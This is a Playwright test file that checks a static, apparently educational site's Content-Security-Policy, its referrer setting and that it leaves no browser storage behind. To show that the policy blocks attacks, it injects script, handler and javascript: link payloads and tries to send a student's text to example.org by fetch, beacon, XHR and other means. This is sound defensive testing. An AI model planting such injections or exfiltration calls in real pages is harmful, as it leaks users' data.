"""What the site asks for, and what it leaves behind: nothing."""

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route

from tests.browsing import listen, probe
from tests.kinds import KINDS, Kind, names, pages_in

each_kind = pytest.mark.parametrize("kind", KINDS, ids=names(KINDS))
# Every page's policy says this, and allows nothing but itself, nothing, and pictures in the page.
WANTED = {
    "default-src": "'none'",
    "script-src": "'self'",
    "style-src": "'self'",
    "connect-src": "'none'",
    "base-uri": "'none'",
    "form-action": "'none'",
}
ALLOWED = {"'self'", "'none'", "data:"}
# How a page looks, for this tab, and what to remember: kept only where a reader asks for it.
ASKS_FIRST = "kit-display, kit-progress label:has(input)"
INJECTED = """
<script>(window.ran ??= []).push("script")</script>
<script src="data:text/javascript,(window.ran??=[]).push('data')"></script>
<img src="data:none" alt="" onerror="(window.ran ??= []).push('handler')">
<a id="slipped" href="javascript:void (window.ran ??= []).push('link')">x</a>
<script src="https://example.org/x.js"></script>
<img src="https://example.org/x.png" alt="">
<link rel="stylesheet" href="https://example.org/x.css">
<iframe src="https://example.org/"></iframe>
<form id="form" action="https://example.org/" method="post"><input name="a" value="b"></form>
"""
# What a page could do to send something away; each has to fail.
SENDING = """async () => {
  const address = "https://example.org/?what-a-student-wrote";
  const sent = [];
  await fetch(address, { mode: "no-cors" }).then(() => sent.push("fetch"), () => 0);
  await fetch("index.html").then(() => sent.push("fetch from the site"), () => 0);
  await new Promise((done) => {
    const request = new XMLHttpRequest();
    request.onload = () => { sent.push("XMLHttpRequest"); done(); };
    request.onerror = done;
    try { request.open("GET", address); request.send(); } catch { done(); }
  });
  try { new WebSocket("wss://example.org/"); } catch {}
  try { new EventSource(address); } catch {}
  navigator.sendBeacon(address, "what a student wrote");
  new Image().src = address;
  const form = document.getElementById("form");
  try { form.submit(); } catch {}
  document.getElementById("slipped").click();
  try { window.eval("(window.ran ??= []).push('eval')"); } catch {}
  try { setTimeout("(window.ran ??= []).push('timer')"); } catch {}
  await new Promise((done) => setTimeout(done, 150));
  return sent;
}"""


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    """A browser that knows nothing yet."""
    context = browser.new_context()
    yield context
    context.close()


@pytest.fixture
def gone_out(context: BrowserContext) -> list[str]:
    """The requests to other hosts that no policy held back; none of them gets an answer."""
    reached: list[str] = []

    def refuse(route: Route) -> None:
        reached.append(route.request.url)
        route.abort()

    context.route(re.compile(r"^(?!http://127\.0\.0\.1)"), refuse)
    return reached


def policy(page: Page) -> dict[str, list[str]]:
    """The policy that a page sets for itself, by directive; it must stand before all it governs."""
    content = page.evaluate(
        """() => {
          const first = [...document.head.children].findIndex((element) =>
            element.matches("script, link, style, meta[http-equiv=Content-Security-Policy]"));
          const element = document.head.children[first];
          return element.matches("meta") ? element.content : "";
        }"""
    )
    return {words[0]: words[1:] for part in content.split(";") if (words := part.split())}


def test_every_page_keeps_to_itself(
    context: BrowserContext, project: Path, address: str, top_address: str
) -> None:
    """Every page has a strict policy, breaks it nowhere, asks no other host and leaves no trace."""
    log, page, site, found = listen(context), context.new_page(), project / "site", []
    for name in pages_in(site):
        where = top_address if name == "404.html" else address
        log.clear()
        page.goto(where + name)
        said = [
            *(f"asks {url}" for url in log.outside(where)),
            *log.complaints,
            *(f"leaves {trace}" for trace in traces(page)),
            *loose(page),
        ]
        found += [f"{name}: {words}" for words in said]
    assert not found, "\n".join(found)


def traces(page: Page) -> list[str]:
    """What a page left in the browser."""
    found: Any = probe(page, "traces")
    return list(found)


def loose(page: Page) -> list[str]:
    """What a page's policy allows that it should not."""
    rules = policy(page)
    found = [
        f"its policy says {name} {' '.join(rules.get(name, ['nothing']))}"
        for name, value in WANTED.items()
        if rules.get(name) != [value]
    ]
    words = [word for values in rules.values() for word in values]
    found += [f"its policy allows {word}" for word in words if word not in ALLOWED]
    if page.locator("meta[name=referrer][content=no-referrer]").count() != 1:
        found.append("it tells other sites where the reader comes from")
    return found


def slip_in(page: Page, address: str, *, guarded: bool = True) -> None:
    """Open a page with something slipped in."""

    def alter(route: Route) -> None:
        text = route.fetch().text().replace("</body>", INJECTED + "</body>")
        if not guarded:
            text = text.replace("Content-Security-Policy", "no-policy")
        route.fulfill(body=text, content_type="text/html")

    page.route(address, alter)
    page.goto(address)
    assert page.locator("#slipped").count() == 1
    assert bool(policy(page)) == guarded


@each_kind
def test_what_is_slipped_in_does_not_run(
    context: BrowserContext, gone_out: list[str], kind: Kind, address: str
) -> None:
    """Scripts, pictures and frames that somebody slips into a page stay dead, nothing is sent."""
    page = context.new_page()
    slip_in(page, address + kind.page)
    sent = page.evaluate(SENDING)
    assert (page.evaluate("window.ran"), sent, gone_out) == (None, [], [])


def test_without_a_policy_it_would_run(
    context: BrowserContext, gone_out: list[str], address: str
) -> None:
    """It is the policy that holds these things back, and the test before this one would tell."""
    page = context.new_page()
    slip_in(page, address + "teach.html", guarded=False)
    page.evaluate("document.getElementById('form').remove()")  # it would leave the page
    sent = page.evaluate(SENDING)
    ran = page.evaluate("window.ran")
    assert set(ran) == {"script", "data", "handler", "link", "eval", "timer"}
    assert sent == ["fetch from the site"], "there is no other host in this test"
    assert {"x.js", "x.png", "x.css"} <= {url.rsplit("/", 1)[-1] for url in gone_out}


def test_using_everything_leaves_nothing(
    context: BrowserContext, address: str, top_address: str
) -> None:
    """After every kind of page and all that can be clicked on it, the browser holds no trace."""
    log, page, left = listen(context), context.new_page(), []
    for kind in KINDS:
        where = top_address if kind.name == "lost" else address
        page.goto(where + kind.page)
        assert probe(page, "useEverything", ASKS_FIRST)
        left += [f"{kind.name}: {trace}" for trace in traces(page)]
        left += [f"{kind.name}: asks {url}" for url in log.outside(where)]
        left += [f"{kind.name}: {words}" for words in log.complaints]
        log.clear()
    assert not left, "\n".join(left)
    state = context.storage_state(indexed_db=True)
    assert (state["cookies"], state["origins"]) == ([], [])
